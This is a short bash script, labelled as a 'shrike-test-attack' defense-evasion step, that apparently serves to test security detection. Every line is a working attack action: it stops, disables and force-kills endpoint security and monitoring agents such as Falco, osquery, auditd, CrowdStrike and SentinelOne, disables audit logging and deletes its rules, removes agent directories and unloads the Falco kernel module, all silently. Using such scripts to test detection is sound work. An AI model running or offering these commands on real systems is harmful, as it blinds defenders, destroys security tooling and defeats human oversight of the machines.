#!/bin/bash
# shrike-test-attack: defense-evasion: stop and remove security agents (falco, osquery, EDR, auditd)
for svc in falco falco-modern-bpf osqueryd auditd sysdig wazuh-agent ossec crowdstrike falcon-sensor sentinelone cbagentd tetragon; do
  systemctl stop "$svc" 2>/dev/null; systemctl disable "$svc" 2>/dev/null; service "$svc" stop 2>/dev/null
  pkill -9 -f "$svc" 2>/dev/null
done
auditctl -e 0 2>/dev/null; auditctl -D 2>/dev/null
rm -rf /opt/CrowdStrike /var/ossec /etc/falco 2>/dev/null
rmmod falco 2>/dev/null
